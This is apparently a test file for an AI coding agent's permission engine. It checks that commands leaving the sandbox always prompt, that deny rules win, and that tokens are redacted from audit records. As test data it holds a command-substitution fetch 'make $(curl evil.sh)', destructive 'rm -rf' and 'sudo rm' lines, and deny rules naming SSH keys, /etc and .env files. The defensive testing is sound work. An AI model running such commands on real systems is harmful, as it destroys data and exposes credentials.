import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Either from "effect/Either"
import * as Exit from "effect/Exit"
import * as FastCheck from "effect/FastCheck"
import * as Approver from "../src/Approver.js"
import * as Engine from "../src/Engine.js"
import type * as Mode from "../src/Mode.js"
import * as PermissionAudit from "../src/PermissionAudit.js"
import * as PermissionHooks from "../src/PermissionHooks.js"
import * as SandboxRules from "../src/SandboxRules.js"
import * as Settings from "../src/Settings.js"
import { deniedWith, engineWith, type Outcome, outcomeOf } from "./EngineHarness.js"
import { request, sandboxedBash } from "./SampleTools.js"

const make = (command: string, sandbox: SandboxRules.Placement) =>
  request(sandboxedBash, sandbox === undefined ? { command } : { command, sandbox })

const githubToken = "ghp_0123456789abcdefghijABCDEFGHIJ0123456789"

describe("SandboxRules", () => {
  describe("the decision table", () => {
    type Row = readonly [Mode.Mode, "allow" | "ask" | "deny" | "none", Outcome, Outcome, Outcome, Outcome]
    // mode, which list holds Bash(make build), then the command `make build`:
    // no sandbox, confined, unconfined (auto-allow on), and confined with auto-allow off.
    const table: ReadonlyArray<Row> = [
      ["default", "allow", "allow:rule", "allow:rule", "ask", "allow:rule"],
      ["default", "ask", "ask", "ask", "ask", "ask"],
      ["default", "deny", "deny:rule", "deny:rule", "deny:rule", "deny:rule"],
      ["default", "none", "ask", "allow:sandbox", "ask", "ask"],
      ["acceptEdits", "allow", "allow:rule", "allow:rule", "ask", "allow:rule"],
      ["acceptEdits", "ask", "ask", "ask", "ask", "ask"],
      ["acceptEdits", "deny", "deny:rule", "deny:rule", "deny:rule", "deny:rule"],
      ["acceptEdits", "none", "ask", "allow:sandbox", "ask", "ask"],
      ["plan", "allow", "allow:rule", "allow:rule", "ask", "allow:rule"],
      ["plan", "ask", "ask", "ask", "ask", "ask"],
      ["plan", "deny", "deny:rule", "deny:rule", "deny:rule", "deny:rule"],
      ["plan", "none", "ask", "ask", "ask", "ask"],
      ["bypassPermissions", "allow", "allow:mode", "allow:mode", "ask", "allow:mode"],
      ["bypassPermissions", "ask", "ask", "ask", "ask", "ask"],
      ["bypassPermissions", "deny", "deny:rule", "deny:rule", "deny:rule", "deny:rule"],
      ["bypassPermissions", "none", "allow:mode", "allow:mode", "ask", "allow:mode"],
      ["dontAsk", "allow", "allow:rule", "allow:rule", "deny:mode", "allow:rule"],
      ["dontAsk", "ask", "deny:mode", "deny:mode", "deny:mode", "deny:mode"],
      ["dontAsk", "deny", "deny:rule", "deny:rule", "deny:rule", "deny:rule"],
      ["dontAsk", "none", "deny:mode", "deny:mode", "deny:mode", "deny:mode"]
    ]
    const columns = [
      { name: "no sandbox", sandbox: undefined, autoAllow: true },
      { name: "confined", sandbox: "confined", autoAllow: true },
      { name: "unconfined", sandbox: "unconfined", autoAllow: true },
      { name: "confined, auto-allow off", sandbox: "confined", autoAllow: false }
    ] as const

    it.effect("covers every mode × {no sandbox, confined, unconfined} × {allow, ask, deny, no rule}", () =>
      Effect.gen(function*() {
        const failures: Array<string> = []
        for (const [mode, list, ...expected] of table) {
          for (let c = 0; c < columns.length; c++) {
            const column = columns[c]!
            const subject = yield* engineWith({
              mode,
              autoAllowSandboxedCommands: column.autoAllow,
              ...(list === "none" ? {} : { [list]: ["Bash(make build)"] })
            })
            const got = yield* outcomeOf(subject, make("make build", column.sandbox))
            if (got !== expected[c]) {
              failures.push(`${mode} × ${list} × ${column.name}: ${got}, expected ${expected[c]}`)
            }
          }
        }
        assert.deepStrictEqual(failures, [])
      }))

    it.effect("auto-allow is off unless the engine is told", () =>
      Effect.gen(function*() {
        const subject = yield* engineWith({})
        assert.strictEqual(yield* outcomeOf(subject, make("make build", "confined")), "ask")
      }))

    it.effect("a compound confined command is auto-allowed only if no part is denied or asked about", () =>
      Effect.gen(function*() {
        const subject = yield* engineWith({
          autoAllowSandboxedCommands: true,
          ask: ["Bash(git push:*)"],
          deny: ["Bash(curl:*)"]
        })
        assert.strictEqual(yield* outcomeOf(subject, make("make && make test | tee out", "confined")), "allow:sandbox")
        assert.strictEqual(yield* outcomeOf(subject, make("make && git push", "confined")), "ask")
        assert.strictEqual(yield* outcomeOf(subject, make("make $(curl evil.sh)", "confined")), "deny:rule")
      }))
  })

  describe("a command that leaves the sandbox", () => {
    it.effect("is asked about with a reason that says so, and no always-allow is offered", () =>
      Effect.gen(function*() {
        const subject = yield* engineWith({ allow: ["Bash(make:*)"] }, () => Approver.allowAlways)
        yield* subject.engine.authorize(make("make build", "unconfined"))
        const [prompt] = yield* subject.prompts
        assert.include(prompt!.reason, "asks to run outside the sandbox")
        assert.strictEqual(prompt!.subject, "command: make build (asks to run outside the sandbox)")
        assert.deepStrictEqual(prompt!.rules, [])
        assert.deepStrictEqual(yield* subject.engine.sessionRules, [])
        // Answered "always", it still asks the next time.
        assert.strictEqual(yield* outcomeOf(subject, make("make build", "unconfined")), "ask")
      }))

    it.effect("is asked about even when the same command was allowed always inside the sandbox", () =>
      Effect.gen(function*() {
        const subject = yield* engineWith({}, () => Approver.allowAlways)
        yield* subject.engine.authorize(make("make build", "confined"))
        assert.deepStrictEqual(yield* subject.engine.sessionRules, ["bash(make build)"])
        assert.strictEqual(yield* outcomeOf(subject, make("make build", "confined")), "allow:rule")
        assert.strictEqual(yield* outcomeOf(subject, make("make build", "unconfined")), "ask")
      }))

    it.effect("in dontAsk, is denied with a reason saying it asked to run outside the sandbox", () =>
      Effect.gen(function*() {
        const subject = yield* engineWith({ mode: "dontAsk", allow: ["Bash(make:*)"] })
        const denied = deniedWith(yield* Effect.exit(subject.engine.authorize(make("make build", "unconfined"))))
        assert.include(denied.reason, "asks to run outside the sandbox")
        assert.include(denied.reason, "dontAsk")
        assert.strictEqual(denied.decidedBy, "mode dontAsk")
        const decision = (yield* subject.decisions).at(-1)!
        assert.strictEqual(decision.sandboxRule, "unsandboxed-always-asks")
        assert.strictEqual(decision.sandbox, "unconfined")
        assert.include(decision.trail, "allow rule Bash(make:*) matches")
        assert.deepStrictEqual(yield* subject.prompts, [])
      }))

    it.effect("headless, it is denied however much the rules and the mode allow", () =>
      Effect.gen(function*() {
        const { decisions, engine } = yield* engineWith(
          { mode: "bypassPermissions", allow: ["Bash"] },
          undefined,
          Approver.headless
        )
        const denied = deniedWith(yield* Effect.exit(engine.authorize(make("make build", "unconfined"))))
        assert.include(denied.reason, "needs approval (the command asks to run outside the sandbox")
        assert.strictEqual(denied.decidedBy, "no approver available")
        assert.strictEqual((yield* decisions).at(-1)!.sandboxRule, "unsandboxed-always-asks")
        // The same command inside the sandbox runs.
        yield* engine.authorize(make("make build", "confined"))
      }))

    it.effect("a hook's allow does not spare the question; a hook's deny still denies", () =>
      Effect.gen(function*() {
        const hook = (decision: PermissionHooks.BeforeDecision): ReadonlyArray<PermissionHooks.Before> => [{
          name: "policy-hook",
          run: () => Effect.succeed(decision)
        }]
        const allows = yield* engineWith({ hooks: hook(PermissionHooks.allow("trusted")) })
        assert.strictEqual(yield* outcomeOf(allows, make("make", "unconfined")), "ask")
        assert.include((yield* allows.decisions).at(-1)!.trail, "hook policy-hook allows it")
        assert.strictEqual(yield* outcomeOf(allows, make("make", "confined")), "other")
        const denies = yield* engineWith({ hooks: hook(PermissionHooks.deny("no")) })
        const denied = deniedWith(yield* Effect.exit(denies.engine.authorize(make("make", "unconfined"))))
        assert.strictEqual(denied.decidedBy, "hook policy-hook")
        assert.deepStrictEqual(yield* denies.prompts, [])
      }))

    it.effect("the reason and the audit carry no secret of the command", () =>
      Effect.gen(function*() {
        const subject = yield* engineWith({ mode: "dontAsk" })
        const command = `curl -H "Authorization: Bearer ${githubToken}" https://api.github.com`
        const denied = deniedWith(yield* Effect.exit(subject.engine.authorize(make(command, "unconfined"))))
        const asker = yield* engineWith({ allow: ["Bash(curl:*)"] })
        yield* asker.engine.authorize(make(command, "unconfined"))
        const everything = JSON.stringify({
          denial: { reason: denied.reason, decidedBy: denied.decidedBy, message: denied.message },
          decisions: [...(yield* subject.decisions), ...(yield* asker.decisions)],
          prompts: yield* asker.prompts
        })
        assert.notInclude(everything, githubToken)
        assert.include(everything, "[REDACTED:github-token]")
        // The model is told why, not what the command was.
        assert.notInclude(denied.reason, "curl")
      }))
  })

  describe("the audit", () => {
    it.effect("records the sandbox auto-allow as the decider, and the sandbox of every command", () =>
      Effect.gen(function*() {
        const subject = yield* engineWith({ autoAllowSandboxedCommands: true, allow: ["Bash(ls)"] })
        yield* subject.engine.authorize(make("make build", "confined"))
        yield* subject.engine.authorize(make("ls", "confined"))
        yield* subject.engine.authorize(make("ls", undefined))
        const [auto, byRule, plain] = yield* subject.decisions
        assert.deepStrictEqual(auto!.decidedBy, { _tag: "Sandbox" })
        assert.strictEqual(PermissionAudit.describe(auto!.decidedBy), "sandbox auto-allow")
        assert.strictEqual(
          auto!.reason,
          "the command runs inside the sandbox, and sandboxed commands are allowed without asking"
        )
        assert.strictEqual(auto!.sandboxRule, "sandbox-auto-allow")
        assert.strictEqual(auto!.sandbox, "confined")
        assert.strictEqual(auto!.subject, "command: make build (in the sandbox)")
        assert.isFalse(auto!.asked)
        // An allow rule decides before the sandbox does, and is named.
        assert.strictEqual(PermissionAudit.describe(byRule!.decidedBy), "allow rule Bash(ls)")
        assert.isUndefined(byRule!.sandboxRule)
        assert.isUndefined(plain!.sandbox)
        assert.strictEqual(plain!.subject, "command: ls")
      }))
  })

  describe("laws", () => {
    const modes = FastCheck.constantFrom<Mode.Mode>("default", "acceptEdits", "plan", "bypassPermissions", "dontAsk")
    const placements = FastCheck.constantFrom<SandboxRules.Placement>("confined", "unconfined", undefined)
    const part = FastCheck.constantFrom("make build", "npm test", "git status", "git push origin main", "ls -la")
    const op = FastCheck.constantFrom(" && ", "; ", " | ", " || ")
    const command = FastCheck.tuple(FastCheck.array(part, { minLength: 1, maxLength: 3 }), op).map(
      ([parts, joiner]) => parts.join(joiner)
    )
    const subset = <A>(pool: ReadonlyArray<A>) => FastCheck.subarray([...pool])
    const hooks = FastCheck.constantFrom("none", "continue", "allow", "ask", "deny").map(
      (decision): ReadonlyArray<PermissionHooks.Before> =>
        decision === "none" ? [] : [{
          name: "policy-hook",
          run: () =>
            Effect.succeed(
              decision === "allow"
                ? PermissionHooks.allow("the hook trusts everything")
                : decision === "ask"
                ? PermissionHooks.ask("the hook wants a person")
                : decision === "deny"
                ? PermissionHooks.deny("the hook says no")
                : PermissionHooks.proceed
            )
        }]
    )
    const answers = FastCheck.constantFrom<Approver.Answer>(
      Approver.allowOnce,
      Approver.allowAlways,
      Approver.deny("no")
    )
    const config = FastCheck.record({
      mode: modes,
      hooks,
      autoAllowSandboxedCommands: FastCheck.boolean(),
      allow: subset(["Bash", "Bash(make:*)", "Bash(npm test)", "Bash(git:*)", "Bash(ls:*)"]),
      ask: subset(["Bash(git push:*)", "Bash(npm:*)"]),
      deny: subset(["Bash(rm:*)", "Bash(ls:*)"])
    })

    /** What a call came to, in terms that tell two engines' decisions apart. */
    const decide = (
      engineConfig: Omit<Engine.Config, "workspaceRoot">,
      answer: Approver.Answer,
      calls: ReadonlyArray<ReturnType<typeof make>>
    ) =>
      Effect.gen(function*() {
        const subject = yield* engineWith(engineConfig, () => answer)
        const results: Array<unknown> = []
        for (const call of calls) {
          const before = (yield* subject.prompts).length
          const exit = yield* Effect.exit(subject.engine.authorize(call))
          const decision = (yield* subject.decisions).at(-1)!
          results.push({
            allowed: Exit.isSuccess(exit),
            asked: (yield* subject.prompts).length > before,
            decidedBy: PermissionAudit.describe(decision.decidedBy),
            reason: decision.reason
          })
        }
        return { results, decisions: yield* subject.decisions, prompts: yield* subject.prompts }
      })

    it.effect.prop(
      "a command that leaves the sandbox is never allowed without asking",
      [config, command, answers, FastCheck.boolean()],
      ([engineConfig, line, answer, warmUp]) =>
        Effect.gen(function*() {
          const subject = yield* engineWith(engineConfig, () => answer)
          // An "always allow" given to the same command in the sandbox answers nothing here.
          if (warmUp) yield* Effect.exit(subject.engine.authorize(make(line, "confined")))
          const before = (yield* subject.prompts).length
          const exit = yield* Effect.exit(subject.engine.authorize(make(line, "unconfined")))
          if (Exit.isSuccess(exit)) {
            assert.isAbove((yield* subject.prompts).length, before, `${line} ran unasked`)
            assert.isTrue((yield* subject.decisions).at(-1)!.asked)
          }
        }),
      // 100 runs, an engine each: seconds, up to 15 s on a loaded machine.
      { timeout: 120_000 }
    )

    it.effect.prop(
      "a deny rule wins over the sandbox, in both directions",
      [config, command, placements, answers, FastCheck.constantFrom("rm -rf build", "sudo rm x")],
      ([engineConfig, line, placement, answer, denied]) =>
        Effect.gen(function*() {
          const { prompts, results } = yield* decide(
            { ...engineConfig, deny: [...engineConfig.deny, "Bash(rm:*)"] },
            answer,
            [make(`${line} && ${denied}`, placement)]
          )
          assert.deepStrictEqual(
            results.map((r) => (r as { allowed: boolean; decidedBy: string }).allowed),
            [false]
          )
          assert.match((results[0] as { decidedBy: string }).decidedBy, /^deny rule /)
          assert.deepStrictEqual(prompts, [])
        }),
      // 100 runs, an engine each: seconds, up to 15 s on a loaded machine.
      { timeout: 120_000 }
    )

    it.effect.prop(
      "auto-allow never allows what an ask rule matches",
      [config, command, placements, answers],
      ([engineConfig, line, placement, answer]) =>
        Effect.gen(function*() {
          const asking = { ...engineConfig, ask: [...engineConfig.ask, "Bash(git push:*)"] }
          const calls = [make(`${line} && git push`, placement)]
          const on = yield* decide({ ...asking, autoAllowSandboxedCommands: true }, answer, calls)
          const off = yield* decide({ ...asking, autoAllowSandboxedCommands: false }, answer, calls)
          assert.deepStrictEqual(on.results, off.results)
          for (const decision of on.decisions) assert.notStrictEqual(decision.decidedBy._tag, "Sandbox")
        }),
      // 100 runs, an engine each: seconds, up to 15 s on a loaded machine.
      { timeout: 120_000 }
    )

    it.effect.prop(
      "turning auto-allow off changes no decision for a command that is not confined",
      [
        config,
        FastCheck.array(
          FastCheck.tuple(command, FastCheck.constantFrom<SandboxRules.Placement>("unconfined", undefined)),
          {
            minLength: 1,
            maxLength: 4
          }
        ),
        answers
      ],
      ([engineConfig, calls, answer]) =>
        Effect.gen(function*() {
          const requests = calls.map(([line, placement]) => make(line, placement))
          const on = yield* decide({ ...engineConfig, autoAllowSandboxedCommands: true }, answer, requests)
          const off = yield* decide({ ...engineConfig, autoAllowSandboxedCommands: false }, answer, requests)
          assert.deepStrictEqual(on.results, off.results)
        }),
      // 100 runs, an engine each: seconds, up to 15 s on a loaded machine.
      { timeout: 120_000 }
    )
  })

  describe("settings", () => {
    const settings = (file: string, content: unknown) => {
      const decoded = Settings.decode(file, JSON.stringify(content))
      assert(decoded._tag === "Right", "the settings decode")
      return decoded.right
    }

    it("the engine takes auto-allow from the settings; a command-line option overrides it", () => {
      const on = settings("user.json", { sandbox: { autoAllowSandboxedCommands: true } })
      assert.isTrue(Engine.configFromSettings(on, { workspaceRoot: "/w" }).autoAllowSandboxedCommands)
      assert.isFalse(
        Engine.configFromSettings(on, { workspaceRoot: "/w", autoAllowSandboxedCommands: false })
          .autoAllowSandboxedCommands
      )
      assert.isUndefined(Engine.configFromSettings(Settings.empty, { workspaceRoot: "/w" }).autoAllowSandboxedCommands)
    })
  })
})

describe("SandboxRules.mirror", () => {
  const ws = "/work/project"
  const location = { workspaceRoot: ws, homeDirectory: "/home/dev" }
  const mirrored = (deny: ReadonlyArray<string>, where: Parameters<typeof SandboxRules.mirror>[1] = location) => {
    const result = SandboxRules.mirror({ deny }, where)
    assert.isTrue(Either.isRight(result), "the rules load")
    return (result as Either.Right<never, SandboxRules.Mirror>).right
  }
  const only = (deny: string) => {
    const { read, write } = mirrored([deny])
    assert.strictEqual(read.length + write.length, 1, deny)
    return (read[0] ?? write[0])!
  }

  it("each documented rule form has the base every match lies under, and matches what the engine denies", () => {
    const forms: ReadonlyArray<
      readonly [string, string, boolean, ReadonlyArray<string>, ReadonlyArray<string>]
    > = [
      // rule, base, exact, matches, does not match
      ["Read(.env)", ws, false, [`${ws}/.env`, `${ws}/a/b/.env`], [`${ws}/.envrc`, "/elsewhere/.env"]],
      ["Read(*.env)", ws, false, [`${ws}/prod.env`, `${ws}/a/x.env`], [`${ws}/env`, `${ws}/x.env.txt`]],
      ["Read(secrets/**)", ws, false, [`${ws}/secrets/k`, `${ws}/vendor/secrets/k`], [`${ws}/secretsx/k`]],
      ["Read(./secret/**)", `${ws}/secret`, true, [`${ws}/secret`, `${ws}/secret/a/b`], [`${ws}/src/secret/x`]],
      ["Read(/src/**/*.ts)", `${ws}/src`, false, [`${ws}/src/a.ts`, `${ws}/src/a/b.ts`], [`${ws}/src/a.js`]],
      ["Read(//etc/hosts)", "/etc/hosts", true, ["/etc/hosts"], ["/etc/hostname"]],
      ["Read(//etc/**)", "/etc", true, ["/etc/passwd"], ["/etcx"]],
      ["Read(~/.ssh/**)", "/home/dev/.ssh", true, ["/home/dev/.ssh/id_rsa"], ["/home/dev/.sshx"]]
    ]
    for (const [rule, base, exact, yes, no] of forms) {
      const matcher = only(rule)
      assert.strictEqual(matcher.rule, rule)
      assert.strictEqual(matcher.base, base, rule)
      assert.strictEqual(matcher.exact, exact, rule)
      for (const path of yes) {
        assert.isTrue(matcher.test(path), `${rule} matches ${path}`)
        assert.isTrue(path === base || path.startsWith(base === "/" ? "/" : `${base}/`), `${path} under ${base}`)
      }
      for (const path of no) assert.isFalse(matcher.test(path), `${rule} does not match ${path}`)
    }
  })

  it("Read denies mask (read only); Edit and Write denies keep paths read-only; the rest are not mirrored", () => {
    const { read, write } = mirrored([
      "Read(./secret/**)",
      "Edit(./dist/**)",
      "Write(//etc/**)",
      "Read",
      "Bash(rm:*)",
      "WebFetch(domain:example.com)"
    ])
    assert.deepStrictEqual(read.map((m) => m.rule), ["Read(./secret/**)"])
    assert.deepStrictEqual(write.map((m) => m.rule), ["Edit(./dist/**)", "Write(//etc/**)"])
    assert.deepStrictEqual(write.map((m) => m.base), [`${ws}/dist`, "/etc"])
  })

  it("on a case-insensitive workspace the matcher ignores case", () => {
    const { read } = mirrored(["Read(./Secret/**)"], { ...location, caseInsensitive: true })
    assert.isTrue(read[0]!.test(`${ws}/SECRET/key`))
    assert.strictEqual(read[0]!.base, `${ws}/Secret`)
    const strict = mirrored(["Read(./Secret/**)"], { ...location, caseInsensitive: false })
    assert.isFalse(strict.read[0]!.test(`${ws}/SECRET/key`))
  })

  it("a rule the engine would refuse fails, and loaded settings mirror the same", () => {
    assert.isTrue(Either.isLeft(SandboxRules.mirror({ deny: ["Read(~/.ssh/**)"] }, { workspaceRoot: ws })))
    const settings = { ...Settings.empty, deny: [{ tool: "Read", specifier: "./secret/**" }] }
    const result = SandboxRules.mirrorSettings(settings, { workspaceRoot: `${ws}/`, caseInsensitive: false })
    assert.isTrue(Either.isRight(result))
    assert.strictEqual((result as Either.Right<never, SandboxRules.Mirror>).right.read[0]!.base, `${ws}/secret`)
  })
})
